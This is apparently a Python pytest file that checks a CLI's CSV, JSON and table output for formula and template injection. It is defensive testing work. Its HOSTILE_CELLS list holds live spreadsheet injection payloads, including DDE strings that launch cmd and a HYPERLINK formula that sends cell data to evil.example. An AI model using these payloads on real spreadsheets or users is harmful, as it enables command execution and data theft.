"""What reaches people is safe to open: CSV has no formulas, narratives no template tricks.

CSV output gets the OWASP treatment against formula injection in every text cell (a
leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab, carriage return, line feed and
their full-width forms), while numbers stay numbers. JSON and the table show values as
they are. Templates fill placeholders with values and never read a value as a template,
so an account name like ``{health_score}`` or ``{0.__class__}`` appears literally.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from upsell_rules.cli.main import cli
from upsell_rules.formatters import FORMULA_START, csv_row, render, safe_cell

TINY_RULESET = """\
name: tiny
version: 1
signals:
  health_score: {type: number}
  plan: {type: string}
scoring:
  categories:
    product:
      weight: 1
      tiers:
        - {id: healthy, score: 10, when: health_score > 50}
bands:
  - {id: act_now, min: 50, max: 100, play: go, outreach: true}
  - {id: wait, min: 0, max: 50, play: hold}
triggers:
  - id: always
    upsell_type: seat
    when: health_score is present
    play: go
    evidence: "{account_name} on {plan} at {health_score}"
plays:
  go:
    title: Go
    window: "now, for {account_name}"
    message: "Call {account_name} ({owner}) about {plan}."
  hold: {title: Hold, window: later}
"""

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_text_that_starts_like_a_formula_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Harborview Dental", "", "a=b", "1+1", "'quoted", " =1", 42, -5.5, 0, None, True]
)
def test_everything_else_is_left_alone(value: Any) -> None:
    assert safe_cell(value) == value


def _accounts_csv(tmp_path: Path, rows: list[dict[str, str]]) -> Path:
    path = tmp_path / "accounts.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _dry(tmp_path: Path, data: Path, *args: str) -> Any:
    ruleset = tmp_path / "tiny.yaml"
    ruleset.write_text(TINY_RULESET, encoding="utf-8")
    return CliRunner().invoke(
        cli, ["dry-run", str(ruleset), "--data", str(data), "--as-of", "2026-11-02", *args]
    )


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    rows = [
        {"account_id": f"A{index}", "account_name": text, "owner": text, "plan": text,
         "health_score": "90"}
        for index, text in enumerate(HOSTILE_CELLS)
    ]
    rows.append({"account_id": "=1+1", "account_name": "ok", "owner": "", "plan": "Team",
                 "health_score": "=2+2"})
    return _accounts_csv(tmp_path, rows)


def test_csv_output_has_no_cell_a_spreadsheet_would_run(
    tmp_path: Path, hostile_data: Path
) -> None:
    result = _dry(tmp_path, hostile_data, "--format", "csv", "--errors", "include")
    assert result.exit_code == 1, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(HOSTILE_CELLS) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
    # The CSV source strips the white space around cells, so "\t=1+1" arrives as "=1+1".
    names = [row["account_name"] for row in rows[:-1]]
    assert names == ["'" + text.strip() for text in HOSTILE_CELLS]
    # The failed record's id and bad value come from the data too.
    assert rows[-1]["account_id"] == "'=1+1"
    assert rows[-1]["error_value"] == "'=2+2"
    assert rows[0]["score"] == "100"


def test_json_and_table_keep_the_values_as_they_are(tmp_path: Path, hostile_data: Path) -> None:
    result = _dry(tmp_path, hostile_data, "--format", "jsonl")
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["account_name"] for r in records] == [t.strip() for t in HOSTILE_CELLS]
    assert [r["owner"] for r in records] == [t.strip() for t in HOSTILE_CELLS]
    table = _dry(tmp_path, hostile_data, "--format", "table").stdout
    assert "=cmd|' /C calc'!A0" in table
    assert "'=cmd" not in table


def test_negative_numbers_in_numeric_columns_stay_numbers(
    tmp_path: Path, hostile_data: Path
) -> None:
    record = json.loads(_dry(tmp_path, hostile_data, "--format", "jsonl").stdout.splitlines()[0])
    record.update(score=-12.5, raw_score=-12.5, capped_at=-3, category_scores={"product": -4.0})
    row = csv_row(record)
    assert (row["score"], row["raw_score"], row["capped_at"], row["product"]) == (
        -12.5, -12.5, -3, -4,
    )
    lines = render([record], "csv").splitlines()
    cells = dict(zip(lines[0].split(","), next(csv.reader([lines[1]])), strict=True))
    assert (cells["score"], cells["capped_at"], cells["product"]) == ("-12.5", "-3", "-4")


@pytest.mark.parametrize(
    "name", ["{health_score}", "{0.__class__}", "{owner}", "[{plan}]", "{account_name:pct}"]
)
def test_values_that_look_like_templates_appear_literally(tmp_path: Path, name: str) -> None:
    data = _accounts_csv(
        tmp_path,
        [{"account_id": "A1", "account_name": name, "owner": "{plan}", "plan": "{0}",
          "health_score": "90"}],
    )
    result = _dry(tmp_path, data, "--format", "jsonl")
    assert result.exit_code == 0, result.output
    record = json.loads(result.stdout)
    assert record["narrative"].endswith(f"Call {name} ({{plan}}) about {{0}}.")
    assert record["triggers"][0]["evidence"] == f"{name} on {{0}} at 90"
    assert record["action"]["window"] == f"now, for {name}"
